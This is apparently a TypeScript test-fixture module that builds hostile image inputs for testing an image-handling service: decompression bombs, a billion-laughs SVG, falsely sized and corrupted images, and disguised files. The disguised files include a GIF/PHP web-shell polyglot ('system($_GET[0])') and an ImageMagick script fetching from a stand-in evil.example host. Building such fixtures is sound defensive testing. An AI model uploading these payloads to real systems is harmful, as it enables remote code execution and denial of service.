import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { createSeededRandom } from '@kitchen-table/demo/seeded-random'
import sharp from 'sharp'
import {
  buildPng,
  buildPngChunk,
  deflatedZeros,
  gifWithDeclaredSize,
  jpegWithDeclaredSize,
  pngBombs,
  webpWithDeclaredSize,
} from './picture-bytes.ts'

export type HostilePicture = { name: string; bytes: Buffer }

type Format = 'png' | 'jpeg' | 'gif' | 'webp'
const formats: Format[] = ['png', 'jpeg', 'gif', 'webp']

const plainPicture = (width: number, height = width, channels: 3 | 4 = 3) =>
  sharp({ create: { width, height, channels, background: { r: 200, g: 30, b: 30, alpha: 0.5 } } })

const noisePicture = (side: number) =>
  sharp(randomBytes(side * side * 3), { raw: { width: side, height: side, channels: 3 } })

const interlaced = (width: number, height = width) =>
  plainPicture(width, height).png({ progressive: true, compressionLevel: 9 }).toBuffer()

const progressive = (width: number, height = width) =>
  plainPicture(width, height).jpeg({ progressive: true }).toBuffer()

const namedPictures = (bytesByName: Record<string, Buffer>): HostilePicture[] =>
  Object.entries(bytesByName).map(([name, bytes]) => ({ name, bytes }))

/** Regression: forty of these in parallel took the process from 153 to 648 MB. */
export const largeInterlaced = () => interlaced(4096)
/** The most pixels that are still decoded, in the most expensive order. */
export const allowedInterlaced = () => interlaced(1024)

async function manyPixelPictures(): Promise<HostilePicture[]> {
  const squares: Record<string, Buffer> = {}
  for (const side of [512, 1023, 1024, 1025, 2048, 4096, 5000]) {
    squares[`interlaced ${side}²`] = await interlaced(side)
    squares[`progressive ${side}²`] = await progressive(side)
  }
  const deep = { width: 1024, height: 1024, depth: 16, color: 6, interlaced: true }
  const cmyk = plainPicture(1024).toColorspace('cmyk')
  return namedPictures({
    ...squares,
    '16 bits a channel, with alpha': buildPng(deep, deflatedZeros(9)),
    'one row': await interlaced(16_000, 1),
    'one column': await interlaced(1, 16_000),
    'CMYK colors': await cmyk.jpeg({ progressive: true }).toBuffer(),
    'full chroma': await plainPicture(1024).jpeg({ chromaSubsampling: '4:4:4', quality: 100 }).toBuffer(),
    noise: await noisePicture(256).png().toBuffer(),
    'a palette': await plainPicture(1024).png({ palette: true, progressive: true }).toBuffer(),
  })
}

async function animatedPictures(): Promise<HostilePicture[]> {
  const frames = async (count: number, side: number) => {
    const frame = await plainPicture(side).png().toBuffer()
    return sharp(
      Array.from({ length: count }, () => frame),
      { join: { animated: true } },
    )
  }
  return namedPictures({
    'a GIF of 60 frames': await (await frames(60, 512)).gif().toBuffer(),
    'a GIF of 400 small frames': await (await frames(400, 16)).gif().toBuffer(),
    'a WebP of 60 frames': await (await frames(60, 256)).webp().toBuffer(),
    'a WebP of large frames': await (await frames(8, 1024)).webp().toBuffer(),
  })
}

async function falselySizedPictures(): Promise<HostilePicture[]> {
  const small = (format: Format) => plainPicture(16).toFormat(format).toBuffer()
  const [jpeg, gif, webp] = [await small('jpeg'), await small('gif'), await small('webp')]
  const pictures: Record<string, Buffer> = {}
  for (const side of [0, 1, 50_000, 2 ** 24, 2 ** 31 - 1, 2 ** 32 - 1]) {
    const size = { width: side, height: side }
    pictures[`a PNG that declares ${side}²`] = buildPng(size, deflatedZeros(1))
    pictures[`a PNG that declares ${side}², interlaced`] = buildPng(
      { ...size, interlaced: true },
      deflatedZeros(1),
    )
  }
  for (const side of [0, 1024, 30_000, 65_535])
    pictures[`a JPEG that declares ${side}²`] = jpegWithDeclaredSize(jpeg, side, side)
  for (const side of [0, 1024, 65_535])
    pictures[`a GIF that declares ${side}²`] = gifWithDeclaredSize(gif, side, side)
  for (const side of [1024, 16_383, 2 ** 24])
    pictures[`a WebP that declares ${side}²`] = webpWithDeclaredSize(webp, side, side)
  return namedPictures(pictures)
}

function decompressionBombs(): HostilePicture[] {
  const dot = { width: 1, height: 1 }
  const point = deflatedZeros(1).subarray(0, 40)
  const bombs = Object.entries(pngBombs(200)).map(([type, chunk]): [string, Buffer] => [
    `a PNG whose ${type} is 200 MB`,
    buildPng(dot, point, [chunk]),
  ])
  const manyTexts = Array.from({ length: 8 }, () => pngBombs(50).zTXt ?? Buffer.alloc(0))
  const manyChunks = Array(10_000).fill(buildPngChunk('tEXt', point))
  const svg = (inside: string) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`)
  const laughs = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
  return namedPictures({
    ...Object.fromEntries(bombs),
    'a PNG of eight texts of 50 MB': buildPng(dot, point, manyTexts),
    'a PNG of one pixel and 300 MB': buildPng(dot, deflatedZeros(300)),
    'a PNG of ten thousand empty chunks': buildPng(dot, point, manyChunks),
    'gzip of 200 MB': gzipSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 }),
    'a zip archive': Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), deflatedZeros(100)]),
    'a billion laughs': Buffer.concat([Buffer.from(laughs), svg('<title>&b;</title>')]),
    'an SVG of a large rectangle': svg('<rect width="100000" height="100000"/>'),
  })
}

async function corruptPictures(): Promise<HostilePicture[]> {
  const { next: random } = createSeededRandom('broken pictures')
  const pictures: Record<string, Buffer> = {}
  for (const format of formats) {
    const bytes = await noisePicture(96).toFormat(format).toBuffer()
    for (const part of [0.01, 0.1, 0.5, 0.9, 0.999])
      pictures[`${part} of a ${format}`] = bytes.subarray(0, Math.ceil(bytes.length * part))
    for (const nth of [1, 2, 3]) {
      const changed = Buffer.from(bytes)
      for (let flips = 0; flips < 10; flips += 1) changed[Math.floor(random() * changed.length)] = nth * 85
      pictures[`a ${format} with changed bytes (${nth})`] = changed
    }
    const html = Buffer.from('<script>1</script>')
    pictures[`a ${format} after HTML`] = Buffer.concat([html, bytes])
    pictures[`a ${format} before HTML`] = Buffer.concat([bytes, html])
    pictures[`a ${format} before an archive`] = Buffer.concat([bytes, Buffer.from('PK\u0003\u0004'), bytes])
  }
  return namedPictures(pictures)
}

async function disguisedFiles(): Promise<HostilePicture[]> {
  const latin1 = (text: string) => Buffer.from(text, 'latin1')
  return namedPictures({
    'an HTML page': latin1('<!doctype html><script>1</script>'),
    'a PDF': latin1('%PDF-1.7\n'),
    'a GIF with PHP code': latin1('GIF89a<?php system($_GET[0]); ?>'),
    'a script that starts like a GIF': latin1('GIF89a=1;alert(1)'),
    'an empty WebP': latin1('RIFF\0\0\0\0WEBP'),
    'a bitmap': latin1('BM\u0010\0\0\0'),
    'an ImageMagick script': latin1('push graphic-context\nfill url(https://evil.example/)\n'),
    'a TIFF': await plainPicture(1024).tiff().toBuffer(),
    'an AVIF': await plainPicture(64).avif().toBuffer(),
    'random bytes': randomBytes(100_000),
    'more than the size limit': randomBytes(600_000),
  })
}

export async function hostilePictures(): Promise<HostilePicture[]> {
  const kinds = [
    manyPixelPictures(),
    animatedPictures(),
    falselySizedPictures(),
    decompressionBombs(),
    corruptPictures(),
    disguisedFiles(),
  ]
  return (await Promise.all(kinds)).flat()
}
